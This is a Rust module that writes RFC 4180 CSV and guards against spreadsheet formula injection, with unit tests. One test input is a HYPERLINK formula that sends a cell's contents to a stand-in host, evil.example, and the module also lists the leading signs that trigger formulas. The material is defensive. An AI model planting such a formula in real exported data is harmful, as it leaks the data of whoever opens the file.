//! Tables as text: CSV by RFC 4180, in which no cell is taken for a formula.
//!
//! A spreadsheet runs what begins with `=`, `+`, `-`, `@`, a tab or a carriage return, and people choose what stands in a cell:
//! such a cell gets an apostrophe in front, as OWASP says, unless it is a number.

/// One table, its head first.
pub fn table(head: &[&str], rows: impl IntoIterator<Item = Vec<String>>) -> String {
    let head = head.iter().map(ToString::to_string).collect();
    [head].into_iter().chain(rows).map(|cells: Vec<String>| line(&cells)).collect()
}

/// One line of it.
pub fn line(cells: &[impl AsRef<str>]) -> String {
    let cells: Vec<String> = cells.iter().map(|text| cell(text.as_ref())).collect();
    cells.join(",") + "\r\n"
}

fn cell(text: &str) -> String {
    let is_number = text.parse::<f64>().is_ok() && text.bytes().all(|byte| b"0123456789.eE+-".contains(&byte));
    // Programs that read Asian texts take the wide forms for the same signs.
    let signs = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    let is_formula = !is_number && text.starts_with(signs);
    let mark = if is_formula { "'" } else { "" };
    if is_formula || text.contains([',', '"', '\r', '\n']) {
        format!("\"{mark}{}\"", text.replace('"', "\"\""))
    } else {
        text.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_are_quoted_where_they_must_be_and_never_formulas() {
        for (text, wanted) in [
            ("", ""),
            ("ada@example.org", "ada@example.org"),
            ("a, b", "\"a, b\""),
            ("say \"hi\"", "\"say \"\"hi\"\"\""),
            ("two\r\nlines", "\"two\r\nlines\""),
            ("=HYPERLINK(\"https://evil.example/\"&A1)", "\"'=HYPERLINK(\"\"https://evil.example/\"\"&A1)\""),
            ("+1", "+1"),
            ("-4.5e3", "-4.5e3"),
            ("-inf", "\"'-inf\""),
            ("-2+3", "\"'-2+3\""),
            ("@SUM(A1)", "\"'@SUM(A1)\""),
            ("\t=1", "\"'\t=1\""),
            ("\r=1", "\"'\r=1\""),
            ("＝1", "\"'＝1\""),
            ("a=1", "a=1"),
        ] {
            assert_eq!(cell(text), wanted, "{text:?}");
        }
        let rows = vec![vec!["1".to_owned(), String::new()]];
        assert_eq!(table(&["a", "b"], rows), "a,b\r\n1,\r\n");
    }

    #[test]
    fn what_is_written_is_read_again_as_it_was_but_for_the_apostrophe() {
        let texts = ["", "plain", "a,b", "\"", "x\ny", "=1", "ü@", " -"];
        let line = table(&["head"; 8], [texts.iter().map(ToString::to_string).collect()]);
        let mut reader = csv::ReaderBuilder::new().from_reader(line.as_bytes());
        let read = reader.records().next().unwrap().unwrap();
        let wanted = texts.map(|text| if text == "=1" { "'=1" } else { text });
        assert_eq!(read.iter().collect::<Vec<_>>(), wanted);
    }
}
